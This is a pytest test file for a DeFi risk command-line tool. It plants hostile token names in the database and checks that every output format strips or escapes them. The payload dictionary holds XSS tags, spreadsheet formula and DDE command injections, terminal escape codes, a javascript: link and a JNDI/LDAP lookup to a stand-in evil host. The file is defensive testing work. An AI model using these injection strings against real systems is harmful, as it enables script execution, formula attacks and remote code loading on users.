"""A token that calls itself something evil, from the store through every command and format."""

from __future__ import annotations

import csv
import html.parser
import io
import json
import re

import pytest
from sqlalchemy import update

from defirisk.store.base_tables import tokens
from defirisk.store.database import Store
from tests.command import CommandLine
from tests.demo import NAME

EVIL = {
    "markup": "</script><script>alert(1)</script><img src=x onerror=alert(2)>\"'>",
    "formula": '=HYPERLINK("http://evil.example","x")',
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "terminal": "\x1b[2J\x1b]0;owned\x07\x9b31m\r\n\u202egnp\u202c\u200b",
    "table": "a|b\n|c|\n\n# heading\n[x](javascript:alert(1)) `code` @everyone",
    "rich": "[bold red]x[/bold red] [link=http://evil.example]y[/link] :bomb:",
    "template": "{{ 7*7 }}{% raw %}${jndi:ldap://evil}",
    "endless": "W" * 256,
}
COMMANDS = {
    "report": ("report", "protocol", "aave-v3"),
    "positions": ("positions", "aave-v3"),
    "stress": ("stress", "--shock", "price:WBTC=-40%", "--accounts"),
}
CONTROL = re.compile(r"[\x00-\x09\x0b-\x1f\x7f-\x9f\u200b-\u200f\u202a-\u202e\u2066-\u2069]")


class Tags(html.parser.HTMLParser):
    """How often each tag with the names of its attributes occurs, and what attributes say."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.seen: set[tuple[str, tuple[str, ...]]] = set()
        self.feed(page)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.seen.add((tag, tuple(sorted(name for name, _ in attrs))))


@pytest.fixture(params=sorted(EVIL))
def evil(request: pytest.FixtureRequest, demo_copy: Store) -> str:
    """The symbol and the name of WETH, from now on."""
    text = EVIL[request.param]
    with demo_copy.transaction() as connection:
        done = connection.execute(
            update(tokens).where(tokens.c.symbol == "WETH").values(symbol=text, name=text)
        )
        assert done.rowcount == 1
    return text


def printed(cli: CommandLine, command: str, format_: str) -> str:
    words = COMMANDS[command]
    ran = cli(*words, "--format", format_, "--db", f"sqlite:///{cli.folder / NAME}")
    assert (ran.code, ran.err) == (0, "")
    return ran.out


@pytest.mark.parametrize("command", sorted(COMMANDS))
def test_a_terminal_gets_no_control_characters(cli: CommandLine, evil: str, command: str) -> None:
    text = printed(cli, command, "table")
    assert not CONTROL.search(text)


@pytest.mark.parametrize("command", sorted(COMMANDS))
def test_a_page_gets_no_tag_that_it_would_not_have_had(
    cli: CommandLine, evil: str, command: str
) -> None:
    page = printed(cli, command, "html")
    plain = re.sub(r"<script.*?</script>", "", page, flags=re.S)
    assert not any("onerror" in names for _, names in Tags(plain).seen)
    assert "<script>alert(1)" not in page
    assert "<img src=x" not in page
    assert page.count("<script") == page.count("</script>")
    assert not CONTROL.search(plain)


@pytest.mark.parametrize("command", sorted(COMMANDS))
def test_a_spreadsheet_gets_no_formula(cli: CommandLine, evil: str, command: str) -> None:
    rows = list(csv.reader(io.StringIO(printed(cli, command, "csv"))))
    assert {len(row) for row in rows} == {len(rows[0])}
    for field in (field for row in rows for field in row):
        assert not CONTROL.search(field)
        assert re.fullmatch(r"-?[\d.]+(e[+-]?\d+)?", field) or not field.startswith(
            ("=", "+", "-", "@", "|", "%")
        ), field


@pytest.mark.parametrize("command", sorted(COMMANDS))
def test_a_forum_post_gets_no_markup(cli: CommandLine, evil: str, command: str) -> None:
    text = printed(cli, command, "md")
    outside = re.sub(r"```.*?```", "", text, flags=re.S)
    assert not CONTROL.search(text)
    assert not re.search(r"(?<!\\)<(script|img)", outside)
    assert "](javascript:" not in outside
    assert "\n# heading" not in text
    for table in re.findall(r"(?:^\|.*\|\n)+", outside, re.M):
        widths = {len(re.findall(r"(?<!\\)\|", line)) for line in table.splitlines()}
        assert len(widths) == 1, table


@pytest.mark.parametrize("command", sorted(COMMANDS))
def test_a_program_gets_text_without_surprises(cli: CommandLine, evil: str, command: str) -> None:
    text = printed(cli, command, "json")
    json.loads(text)
    assert not CONTROL.search(text)


def test_an_error_that_names_it_is_harmless(cli: CommandLine, evil: str) -> None:
    database = ("--db", f"sqlite:///{cli.folder / NAME}")
    for shock in (f"price:{evil[:3]}=-4%", f"depeg:{evil}=0.9", "price:nothing=-40%"):
        ran = cli("stress", "--shock", shock, *database)
        assert not CONTROL.search(ran.err)
        assert ran.code in (0, 2)
        assert "defect" not in ran.err
        assert len(ran.err.splitlines()) <= 2
